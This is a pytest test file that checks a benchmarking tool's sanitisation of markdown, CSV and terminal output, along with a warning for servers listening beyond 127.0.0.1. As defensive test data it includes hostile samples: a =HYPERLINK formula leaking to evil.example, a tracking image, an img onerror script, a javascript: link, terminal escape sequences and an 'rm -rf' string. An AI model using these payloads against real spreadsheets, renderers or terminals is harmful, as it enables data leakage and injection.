"""Nothing listens beyond 127.0.0.1 without a word (run.json, the report, stderr), and
output that reaches a spreadsheet, a markdown renderer or a terminal carries no active
content: formula cells, images, links and HTML in markdown, escape sequences."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
import yaml

from abbench.errors import ServerError, printable
from abbench.report.text import csv_cell, md_escape
from tests.faultkit import cli, only_run, own_refserver, ref_arms, wait_gone

HOSTILE_A = '=HYPERLINK("http://evil.example/?leak","click")'
HOSTILE_B = "![b](http://evil.example/pixel.png) <img src=x onerror=alert(1)> \x1b]0;pwn\x07\x1b[2J"


def test_a_server_beyond_loopback_is_warned_and_labels_are_neutralised(tmp_path: Path,
                                                                      results: Path) -> None:
    ref = own_refserver(tmp_path)
    arms = ref_arms(tmp_path / "arms.yaml", ref, {"a": ["--host", "0.0.0.0"], "b": []},
                    rounds=1)
    doc = yaml.safe_load(arms.read_text())
    doc["arms"][0]["label"] = HOSTILE_A
    doc["arms"][1]["label"] = HOSTILE_B
    arms.write_text(yaml.safe_dump(doc))
    p = cli("run", arms, "--results", results, "--plain")
    assert p.returncode == 0, p.stderr
    run = only_run(results)
    meta = json.loads((run / "run.json").read_text())
    assert meta["exposed"] == {"a": ["0.0.0.0"]}
    warning = "arm a's server listens on 0.0.0.0, beyond 127.0.0.1"
    assert warning in p.stderr
    md = (run / "report.md").read_text()
    assert f"Warning: {warning}" in md and "arm b's server listens" not in md
    for text in (md, p.stdout):  # the markdown table, as stored and as printed
        assert "![" not in text and not re.search(r"(?<!\\)\]\(", text) and "<img" not in text
        assert "\x1b" not in text and "\x07" not in text
    c = cli("report", run.name, "--results", results, "--format", "csv")
    assert c.returncode == 0, c.stderr
    cells = [cell for row in csv.reader(io.StringIO(c.stdout)) for cell in row]
    assert f"'{HOSTILE_A}" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    wait_gone()


@pytest.mark.parametrize("text", ["![x](http://e/i.png)", "[click](javascript:alert(1))",
                                  "<script>x</script>", "`rm -rf`", "a|b\nc", "\x1b[31mred"])
def test_markdown_cells_carry_no_active_content(text: str) -> None:
    out = md_escape(text)
    assert "![" not in out and "](" not in out.replace("\\](", "")
    assert "<" not in out and "\x1b" not in out and "\n" not in out
    assert "`" not in out.replace("\\`", "")


@pytest.mark.parametrize(("cell", "want"), [
    ("=1+2", "'=1+2"), ("+cmd", "'+cmd"), ("-b/-ub 2048", "'-b/-ub 2048"), ("@SUM(A1)",
     "'@SUM(A1)"), ("\t=1", "'\t=1"), ("-5.25", "-5.25"), ("-inf", "-inf"), (3, 3),
    ("plain", "plain")])
def test_csv_cells_never_start_a_formula(cell: object, want: object) -> None:
    assert csv_cell(cell) == want


def test_errors_and_server_log_tails_reach_the_terminal_without_escapes() -> None:
    e = ServerError("died \x1b[2J", where="arm a", log_tail="\x1b]0;title\x07 boom\n\x1b[31mred")
    text = str(e)
    assert "\x1b" not in text and "\x07" not in text and "boom" in text
    assert printable("a\tb\nc\x00\x9b") == "a\tb\nc\ufffd\ufffd"
